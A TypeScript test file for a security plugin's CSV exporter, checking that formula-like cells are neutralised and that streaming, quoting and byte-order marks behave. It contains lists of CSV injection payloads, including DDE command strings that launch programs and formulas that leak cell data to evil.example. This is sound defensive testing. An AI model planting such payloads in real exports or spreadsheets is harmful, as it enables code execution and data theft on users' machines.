import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { Readable, Writable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { Finding } from '@security-posture/plugin-security-posture-common';
import {
  countsCsv,
  FINDING_CSV_COLUMNS,
  findingRow,
  findingsCsv,
  isFormulaLike,
  neutralizeCell,
  rowsCsv,
} from './csv';
import { publishedDataCsv } from './publishedCsv';

async function collectBytes(stream: Readable): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) {
    chunks.push(typeof chunk === 'string' ? Buffer.from(chunk, 'utf8') : chunk);
  }
  return Buffer.concat(chunks);
}

async function collect(stream: Readable): Promise<string> {
  // Decode once at the end: a multi-byte character may span two chunks.
  return (await collectBytes(stream)).toString('utf8');
}

function parseCsv(text: string): Record<string, string>[] {
  return parse(text, { columns: true, relax_quotes: false });
}

function headerOf(text: string): string[] {
  return parse(text, { to_line: 1, relax_quotes: false })[0];
}

async function* pagesOf(...pages: Finding[][]): AsyncIterable<Finding[]> {
  for (const page of pages) yield page;
}

function finding(overrides: Partial<Finding> = {}): Finding {
  return {
    fingerprint: 'fp-0',
    checkId: 'catalog/leaked-secret',
    category: 'catalog',
    severity: 'high',
    outcome: 'fail',
    status: 'open',
    title: 'Leaked token',
    message: 'A token is in the entity',
    target: { type: 'entity', entityRef: 'component:default/svc' },
    location: 'metadata.annotations.x',
    entityRef: 'component:default/svc',
    entityKind: 'Component',
    owners: ['group:default/team-a'],
    evidence: {},
    remediation: 'Rotate it',
    firstSeenAt: '2026-11-01T00:00:00.000Z',
    lastSeenAt: '2026-11-02T00:00:00.000Z',
    ...overrides,
  };
}

/**
 * The test's own statement of what a spreadsheet might evaluate (OWASP CSV Injection): a cell
 * starting with a control character (tab, CR, ...), or whose first character after whitespace,
 * control and format characters is `=`, `+`, `-` or `@` in Unicode's compatibility form (so
 * full-width `＝` counts as `=`). Written independently of csv.ts, which hard-codes the set.
 */
function risky(value: string): boolean {
  if (/^\p{Cc}/u.test(value)) return true;
  const rest = value.replace(/^[\s\p{Cc}\p{Cf}]+/u, '');
  const first = rest.codePointAt(0);
  return first !== undefined && /^[=+\-@]/.test(String.fromCodePoint(first).normalize('NFKC'));
}
const neutralized = (value: string) => (risky(value) ? `'${value}` : value);

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  '+1',
  '-2',
  '@SUM(A1)',
  '\t=1+1 after a tab',
  '\r=cmd|\' /C calc\'!A0',
  '=',
  'he said "hi", then left',
  '"starts with a quote',
  ',starts with a comma',
  'line one\nline two',
  'crlf one\r\ncrlf two\r\n',
  'trailing space ',
  ' =leading space then equals',
  '\n\n=leading newlines then equals',
  '\uFEFF=after a byte-order mark',
  '＝HYPERLINK("http://evil.example/","full-width")',
  '\u3000＠SUM(1+1) after an ideographic space',
  "'already quoted",
  'emoji 🔥 and a family 👩‍👩‍👧‍👦',
  'مرحبا بالعالم \u202Eevil.exe\u202C',
  'combining e\u0301 a\u0300 Z\u0351\u036B',
  '',
];

describe('findingsCsv', () => {
  it('round-trips hostile cells, neutralising only formula-like ones', async () => {
    const findings: Finding[] = [];
    const expected: Record<string, string>[] = [];
    HOSTILE.forEach((text, i) => {
      const evidenceValue = HOSTILE[(i + 3) % HOSTILE.length];
      const f = finding({
        fingerprint: `fp-${i}`,
        severity: i % 2 ? 'critical' : 'low',
        title: text,
        message: HOSTILE[(i + 1) % HOSTILE.length],
        location: HOSTILE[(i + 2) % HOSTILE.length],
        evidence: { secretMask: evidenceValue },
        owners: i % 3 ? ['group:default/team-a', 'user:default/bob'] : [],
        resolvedAt: i % 4 ? undefined : '2026-11-03T00:00:00.000Z',
        status: i % 4 ? 'open' : 'resolved',
        docsUrl: i % 5 ? undefined : 'https://example.com/docs',
        // Exemption texts are user input: every hostile text in the reason, the creator and the ticket.
        exemption:
          i % 3 === 1
            ? {
                id: `ex-${i}`,
                scope: { type: 'finding', fingerprint: `fp-${i}` },
                kind: 'accepted-risk',
                state: 'active',
                reason: HOSTILE[(i + 4) % HOSTILE.length],
                createdBy: HOSTILE[(i + 5) % HOSTILE.length],
                createdAt: '2026-11-04T00:00:00.000Z',
                expiresAt: '2027-01-01T00:00:00.000Z',
                ticket: HOSTILE[(i + 6) % HOSTILE.length],
              }
            : undefined,
      });
      findings.push(f);
      expected.push({
        severity: f.severity,
        category: 'catalog',
        checkId: 'catalog/leaked-secret',
        status: f.status,
        outcome: 'fail',
        title: neutralized(text),
        message: neutralized(f.message),
        entityRef: 'component:default/svc',
        entityKind: 'Component',
        owners: f.owners.join(' '),
        target: 'component:default/svc',
        location: neutralized(f.location ?? ''),
        evidence: `secretMask=${evidenceValue}`,
        remediation: 'Rotate it',
        docsUrl: f.docsUrl ?? '',
        firstSeenAt: '2026-11-01T00:00:00.000Z',
        lastSeenAt: '2026-11-02T00:00:00.000Z',
        resolvedAt: f.resolvedAt ?? '',
        fingerprint: `fp-${i}`,
        exemptionState: f.exemption?.state ?? '',
        exemptionKind: f.exemption?.kind ?? '',
        exemptionReason: neutralized(f.exemption?.reason ?? ''),
        exemptionCreatedBy: neutralized(f.exemption?.createdBy ?? ''),
        exemptionCreatedAt: f.exemption?.createdAt ?? '',
        exemptionExpiresAt: f.exemption?.expiresAt ?? '',
        exemptionTicket: neutralized(f.exemption?.ticket ?? ''),
      });
    });

    // Evidence cells that themselves start risky, arrays with commas, and other target kinds.
    findings.push(
      finding({
        fingerprint: 'fp-evidence',
        title: '-negative',
        message: 'plain',
        location: undefined,
        evidence: { '=key': 'value', list: ['a,b', '"c"', '\nd'], n: 3, ok: true, none: null },
        target: { type: 'config', path: 'auth.environment' },
        entityRef: undefined,
        entityKind: undefined,
        owners: [],
      }),
      finding({
        fingerprint: 'fp-package',
        message: '@mention',
        target: { type: 'package', name: '@backstage/plugin-auth-backend', version: '0.1.0' },
        entityRef: undefined,
        entityKind: undefined,
        owners: [],
        evidence: {},
      }),
    );
    expected.push(
      {
        ...expected[0],
        fingerprint: 'fp-evidence',
        severity: 'high',
        status: 'open',
        resolvedAt: '',
        docsUrl: '',
        title: "'-negative",
        message: 'plain',
        location: '',
        evidence: `'=key=value; list=a,b,"c",\nd; n=3; ok=true; none=null`,
        target: 'config:auth.environment',
        entityRef: '',
        entityKind: '',
        owners: '',
      },
      {
        ...expected[0],
        fingerprint: 'fp-package',
        severity: 'high',
        status: 'open',
        resolvedAt: '',
        docsUrl: '',
        title: 'Leaked token',
        message: "'@mention",
        location: 'metadata.annotations.x',
        evidence: '',
        target: 'package:@backstage/plugin-auth-backend@0.1.0',
        entityRef: '',
        entityKind: '',
        owners: '',
      },
    );

    const text = await collect(
      findingsCsv(pagesOf(findings.slice(0, 5), [], findings.slice(5))),
    );

    expect(headerOf(text)).toEqual([...FINDING_CSV_COLUMNS]);
    const rows = parseCsv(text);
    expect(rows).toHaveLength(findings.length);
    expect(rows).toEqual(expected);
    // The hostile values really were hostile: the neutralisation was exercised.
    expect(rows.filter(r => r.title.startsWith("'")).length).toBeGreaterThanOrEqual(12);
    expect(rows.filter(r => r.exemptionReason.startsWith("'")).length).toBeGreaterThanOrEqual(3);
    expect(rows.filter(r => r.exemptionState === 'active')).toHaveLength(8);
    for (const row of rows) {
      expect(Object.keys(row)).toEqual([...FINDING_CSV_COLUMNS]);
      for (const cell of Object.values(row)) {
        expect(risky(cell)).toBe(false);
      }
    }
  });

  it('writes exactly the bytes csv-stringify writes, in chunks of any page sizes', async () => {
    // Every hostile text in every column that holds free text, plus long cells and many rows,
    // so that rows and multi-byte characters straddle the chunks the stream hands out.
    const findings: Finding[] = [];
    for (let i = 0; i < 3000; i++) {
      const text = (k: number) => HOSTILE[(i + k) % HOSTILE.length];
      findings.push(
        finding({
          fingerprint: `fp-${i}`,
          title: text(0),
          // Cells longer than a chunk of the stream (64 KiB), in one- and multi-byte characters.
          message: i % 97 ? text(1) : `${text(1)} ${i % 2 ? 'x'.repeat(70_000) : '🔥'.repeat(40_000)}`,
          location: i % 5 ? text(2) : undefined,
          entityRef: i % 7 ? `component:default/${text(3)}` : undefined,
          entityKind: i % 7 ? text(4) : undefined,
          owners: i % 3 ? [text(5), text(6)] : [],
          evidence: { a: text(7), list: [text(8), text(9)], n: i, ok: i % 2 === 0 },
          target: [
            { type: 'config', path: text(10) } as const,
            { type: 'package', name: text(11), version: i % 8 ? '1.0.0' : undefined } as const,
            { type: 'entity', entityRef: text(12) } as const,
            { type: 'deployment' } as const,
          ][i % 4],
          remediation: text(13),
          docsUrl: i % 2 ? text(14) : undefined,
          resolvedAt: i % 6 ? undefined : text(15),
        }),
      );
    }
    // Short rows ending in multi-byte text of every length: some of it meets every chunk end.
    for (let i = 0; i < 3000; i++) {
      findings.push(
        finding({
          fingerprint: `fp-short-${i}`,
          title: 't',
          message: 'm',
          location: undefined,
          remediation: `r${'é🔥'.repeat(i % 37)}`,
        }),
      );
    }
    const expected = stringify(findings.map(findingRow), {
      header: true,
      columns: [...FINDING_CSV_COLUMNS],
      quoted_match: /[\s,"]/,
      cast: { string: neutralizeCell },
    });
    // Both sides neutralise with the same function (neutralizeCell is csv-stringify's cast
    // here), so the comparison holds whatever the neutralisation rule; that rule has its own
    // tests below. What this test pins is the hand-written writer: quoting, escaping, UTF-8
    // across chunk ends, and the byte-order mark.
    const pages = [findings.slice(0, 1), [], findings.slice(1, 1001), findings.slice(1001)];
    expect(await collect(findingsCsv(pagesOf(...pages)))).toBe(expected);
    expect(await collect(findingsCsv(pagesOf()))).toBe(
      stringify([], { header: true, columns: [...FINDING_CSV_COLUMNS] }),
    );
    const expectedWithBom = stringify(findings.map(findingRow), {
      bom: true,
      header: true,
      columns: [...FINDING_CSV_COLUMNS],
      quoted_match: /[\s,"]/,
      cast: { string: neutralizeCell },
    });
    expect(expectedWithBom).toBe(`\uFEFF${expected}`);
    expect(await collect(findingsCsv(pagesOf(...pages), { bom: true }))).toBe(expectedWithBom);
  });

  it('propagates a failure of the page source as a stream error', async () => {
    async function* failing(): AsyncIterable<Finding[]> {
      yield [finding({ fingerprint: 'a' }), finding({ fingerprint: 'b' })];
      throw new Error('database went away');
    }
    const stream = findingsCsv(failing());
    await expect(collect(stream)).rejects.toThrow('database went away');
    expect(stream.destroyed).toBe(true);
    expect(stream.readableEnded).toBe(false);
  });

  it('streams many pages without reading ahead of the consumer', async () => {
    const PAGES = 50;
    const PER_PAGE = 200;
    let pulled = 0;
    async function* many(): AsyncIterable<Finding[]> {
      for (let p = 0; p < PAGES; p++) {
        pulled += 1;
        yield Array.from({ length: PER_PAGE }, (_, i) =>
          finding({
            fingerprint: `fp-${p}-${i}`,
            message: `finding ${i} of page ${p}: "quoted", and\nmultiline =x`,
          }),
        );
      }
    }
    const stream = findingsCsv(many());

    // Nobody reads yet: back-pressure must stop the producer after a few pages.
    for (let i = 0; i < 20; i++) await new Promise(resolve => setImmediate(resolve));
    expect(pulled).toBeGreaterThan(0);
    expect(pulled).toBeLessThan(PAGES / 2);

    const rows = parseCsv(await collect(stream));
    expect(pulled).toBe(PAGES);
    expect(rows).toHaveLength(PAGES * PER_PAGE);
    expect(new Set(rows.map(r => r.fingerprint)).size).toBe(PAGES * PER_PAGE);
    expect(rows[0].fingerprint).toBe('fp-0-0');
    expect(rows[rows.length - 1]).toMatchObject({
      fingerprint: `fp-${PAGES - 1}-${PER_PAGE - 1}`,
      message: `finding ${PER_PAGE - 1} of page ${PAGES - 1}: "quoted", and\nmultiline =x`,
    });
  });
  it('ends for every kind of consumer, whatever the size of the pages', async () => {
    // Reads arrive while a page is being written, in whatever order the consumer's scheduling
    // gives them; a read ignored then must not leave the stream stalled.
    const small: Finding = {
      fingerprint: 'f',
      checkId: 'c',
      category: 'catalog',
      severity: 'high',
      outcome: 'fail',
      status: 'open',
      title: 't',
      message: 'm',
      target: { type: 'deployment' },
      owners: [],
      evidence: {},
      remediation: 'r',
      firstSeenAt: 'a',
      lastSeenAt: 'b',
    };
    const later = {
      microtask: (cb: () => void) => queueMicrotask(cb),
      nextTick: (cb: () => void) => process.nextTick(cb),
      immediate: (cb: () => void) => setImmediate(cb),
    };
    const consumers: Record<string, (stream: Readable) => Promise<number>> = {
      forAwait: async stream => (await collect(stream)).length,
      // Reads on every microtask for a while, then on every turn of the event loop; gives up
      // (with the bytes so far) when nothing more comes.
      polling: stream =>
        new Promise(resolve => {
          let bytes = 0;
          let ended = false;
          let turns = 0;
          stream.on('end', () => {
            ended = true;
          });
          const poll = (microtasks: number) => {
            for (let chunk = stream.read(); chunk !== null; chunk = stream.read()) {
              bytes += chunk.length;
            }
            if (ended || turns > 5000) resolve(bytes);
            else if (microtasks < 20) queueMicrotask(() => poll(microtasks + 1));
            else {
              turns += 1;
              setImmediate(() => poll(0));
            }
          };
          poll(0);
        }),
      readable: stream =>
        new Promise((resolve, reject) => {
          let bytes = 0;
          stream.on('readable', () => {
            for (let chunk = stream.read(); chunk !== null; chunk = stream.read()) {
              bytes += chunk.length;
            }
          });
          stream.on('end', () => resolve(bytes));
          stream.on('error', reject);
        }),
      ...Object.fromEntries(
        Object.entries(later).map(([name, schedule]) => [
          `pipe-${name}`,
          async (stream: Readable) => {
            let bytes = 0;
            const sink = new Writable({
              highWaterMark: 1024,
              write(chunk: Buffer, _encoding, callback) {
                bytes += chunk.length;
                schedule(() => callback());
              },
            });
            await pipeline(stream, sink);
            return bytes;
          },
        ]),
      ),
    };
    const header = (await collect(findingsCsv(pagesOf()))).length;
    const rowBytes = (await collect(findingsCsv(pagesOf([small])))).length - header;
    for (const [name, consume] of Object.entries(consumers)) {
      for (const pageCount of [1, 2, 3, 7]) {
        for (const perPage of [1, 300, 1000, 2500]) {
          const pages = Array.from({ length: pageCount }, () => Array(perPage).fill(small));
          const bytes = await consume(findingsCsv(pagesOf(...pages)));
          expect({ name, pageCount, perPage, bytes }).toEqual({
            name,
            pageCount,
            perPage,
            bytes: header + pageCount * perPage * rowBytes,
          });
        }
      }
    }
    // ~100,000 rows through every consumer: 5 s is too tight on a loaded machine; a stalled
    // stream still fails here, it just takes longer to say so.
  }, 60_000);

  it('stops reading pages when the consumer goes away', async () => {
    let pulled = 0;
    let closed = false;
    async function* endless(): AsyncIterable<Finding[]> {
      try {
        for (let p = 0; ; p++) {
          pulled += 1;
          yield Array.from({ length: 200 }, (_, i) => finding({ fingerprint: `fp-${p}-${i}` }));
        }
      } finally {
        closed = true;
      }
    }
    const stream = findingsCsv(endless());
    const firstChunk = await new Promise(resolve => stream.once('data', resolve));
    expect(String(firstChunk)).toContain('severity,category,checkId');
    stream.destroy(); // e.g. the HTTP client disconnected mid-download

    for (let i = 0; i < 50 && !closed; i++) {
      await new Promise(resolve => setImmediate(resolve));
    }
    expect(closed).toBe(true);
    const pulledWhenClosed = pulled;
    await new Promise(resolve => setTimeout(resolve, 20));
    expect(pulled).toBe(pulledWhenClosed);
  });
});

describe('countsCsv', () => {
  it('writes one neutralised row per severity', async () => {
    const text = await collect(
      countsCsv('=cmd|calc', { critical: 1, high: 2, medium: 0, low: 4, info: 5 }),
    );
    expect(headerOf(text)).toEqual(['entityRef', 'severity', 'openFindings']);
    expect(parseCsv(text)).toEqual([
      { entityRef: "'=cmd|calc", severity: 'critical', openFindings: '1' },
      { entityRef: "'=cmd|calc", severity: 'high', openFindings: '2' },
      { entityRef: "'=cmd|calc", severity: 'medium', openFindings: '0' },
      { entityRef: "'=cmd|calc", severity: 'low', openFindings: '4' },
      { entityRef: "'=cmd|calc", severity: 'info', openFindings: '5' },
    ]);
  });
});

/**
 * Payloads after the OWASP CSV Injection page and the usual cheat sheets: DDE, arithmetic
 * prefixes, functions that fetch or link, tab/CR/NUL prefixes, whitespace and format characters
 * before a trigger, and the full-width and other compatibility forms of the triggers.
 */
const OWASP_PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  '=DDE("cmd";"/C calc";"!A0")A0',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+SUM(1+1)',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click for details")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=rundll32|\'URL.dll,OpenURL calc.exe\'!A',
  '=MSEXCEL|\'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll\'!\'\'',
  '\t=1+1',
  '\tplain after a tab',
  '\r=1+1',
  '\rplain after a carriage return',
  '\r\n=1+1',
  '\0=1+1',
  '\n=1+1',
  ' =1+1',
  '   +SUM(1+1)',
  '\n\n\n-2+3',
  ' \t\r\n @SUM(1+1)',
  '\u00A0=1+1', // no-break space
  '\u3000=1+1', // ideographic space
  '\u200B=1+1', // zero-width space
  '\u202E=1+1', // right-to-left override
  '\uFEFF=1+1', // a byte-order mark inside the cell
  '\uFEFF\uFEFF @SUM(1+1)',
  '＝1+1', // U+FF1D full-width equals
  '＋SUM(1+1)', // U+FF0B full-width plus
  '－2+3', // U+FF0D full-width hyphen-minus
  '＠SUM(1+1)', // U+FF20 full-width commercial at
  "＝cmd|' /C calc'!A0",
  ' ＝1+1',
  '\n＠SUM(1+1)',
  '\u3000＋1',
  '﹦1+1', // U+FE66 small equals
  '﹢1', // U+FE62 small plus
  '﹣1', // U+FE63 small hyphen-minus
  '﹫SUM(1+1)', // U+FE6B small commercial at
  '⁼1', // superscript equals
  '₊1', // subscript plus
  '⩵1', // NFKC "=="
  '-1',
  '-',
  '=',
  '+',
  '@',
];

const HARMLESS = [
  '',
  ' ',
  '\u3000',
  'plain',
  'a=b',
  '1+1',
  '2-1',
  'user@example.com',
  'component:default/svc',
  "'=already neutralised",
  'é=1',
  '−1', // U+2212 minus sign: not a trigger in any form
  '‐1', // U+2010 hyphen
  'x\n=1+1', // a trigger after a newline inside the cell stays inside the quoted cell
  'a,=1+1',
];

describe('neutralizeCell', () => {
  it.each(OWASP_PAYLOADS.map(p => [JSON.stringify(p), p]))('neutralises %s', (_, payload) => {
    expect(risky(payload)).toBe(true); // the payload list itself is right
    expect(isFormulaLike(payload)).toBe(true);
    expect(neutralizeCell(payload)).toBe(`'${payload}`);
  });

  it.each(HARMLESS.map(p => [JSON.stringify(p), p]))('leaves %s as it is', (_, value) => {
    expect(risky(value)).toBe(false);
    expect(neutralizeCell(value)).toBe(value);
  });

  it('neutralises every character whose compatibility form is a trigger, after any prefix', () => {
    const misses: string[] = [];
    const prefixes = ['', ' ', '\n', '\t', '\uFEFF', '\u3000', '\u200B\u00A0'];
    for (let code = 0; code <= 0x10ffff; code++) {
      if (code >= 0xd800 && code <= 0xdfff) continue;
      const char = String.fromCodePoint(code);
      for (const prefix of code < 0x10000 ? prefixes : ['']) {
        const value = `${prefix}${char}1`;
        if (neutralizeCell(value) !== neutralized(value)) misses.push(JSON.stringify(value));
      }
    }
    expect(misses).toEqual([]);
  });

  it('takes linear time on long runs of leading whitespace', () => {
    const started = Date.now();
    expect(neutralizeCell(`${' \u200B'.repeat(1_000_000)}x`)).toMatch(/^ /);
    expect(neutralizeCell(`${' \u200B'.repeat(1_000_000)}=`)).toMatch(/^' /);
    expect(Date.now() - started).toBeLessThan(2000);
  });

  it('neutralises every payload in every export, which parses back to the quoted payload', async () => {
    const findings = OWASP_PAYLOADS.map((payload, i) =>
      finding({ fingerprint: `fp-${i}`, title: payload, message: payload, remediation: payload }),
    );
    const rows = parseCsv(await collect(findingsCsv(pagesOf(findings.slice(0, 10), findings.slice(10)))));
    expect(rows.map(r => [r.title, r.message, r.remediation])).toEqual(
      OWASP_PAYLOADS.map(p => [`'${p}`, `'${p}`, `'${p}`]),
    );

    const table = parseCsv(
      await collect(rowsCsv(['value'], OWASP_PAYLOADS.map(value => ({ value })))),
    );
    expect(table.map(r => r.value)).toEqual(OWASP_PAYLOADS.map(p => `'${p}`));

    for (const payload of OWASP_PAYLOADS) {
      const counts = parseCsv(
        await collect(countsCsv(payload, { critical: 1, high: 0, medium: 0, low: 0, info: 0 })),
      );
      expect(counts[0].entityRef).toBe(`'${payload}`);
    }
  });
});

describe('byte-order mark', () => {
  const BOM = Buffer.from([0xef, 0xbb, 0xbf]);
  const counts = { critical: 1, high: 2, medium: 0, low: 4, info: 5 };
  const exports: Record<string, (options?: { bom?: boolean }) => Readable> = {
    findingsCsv: options =>
      findingsCsv(
        pagesOf(
          [finding({ title: 'Zugangsschlüssel – 鍵 🔑' })],
          [],
          Array.from({ length: 3000 }, (_, i) => finding({ fingerprint: `fp-${i}`, message: 'ü'.repeat(i % 50) })),
        ),
        options,
      ),
    findingsCsvEmpty: options => findingsCsv(pagesOf(), options),
    countsCsv: options => countsCsv('component:default/café', counts, options),
    rowsCsv: options => rowsCsv(['name', 'note'], [{ name: 'Ærø', note: '=1' }], options),
    publishedDataCsv: options =>
      publishedDataCsv('plugins/inventory', 'inventory', { packages: [{ name: 'ö' }] }, options)!,
  };

  it.each(Object.keys(exports))('%s writes exactly one mark at the start with bom: true', async name => {
    const withBom = await collectBytes(exports[name]({ bom: true }));
    const without = await collectBytes(exports[name]());
    expect(withBom.subarray(0, 3)).toEqual(BOM);
    expect(withBom.indexOf(BOM, 3)).toBe(-1);
    expect(withBom.toString('utf8').split('\uFEFF')).toHaveLength(2);
    expect(withBom.subarray(3)).toEqual(without);
    // Parsers that know the mark read the same rows with and without it.
    expect(parse(withBom, { columns: true, bom: true })).toEqual(parse(without, { columns: true }));
  });

  it.each(Object.keys(exports))('%s writes no mark by default or with bom: false', async name => {
    for (const options of [undefined, {}, { bom: false }]) {
      const bytes = await collectBytes(exports[name](options));
      expect(bytes.indexOf(BOM)).toBe(-1);
      expect(bytes.length).toBeGreaterThan(0);
    }
  });
});
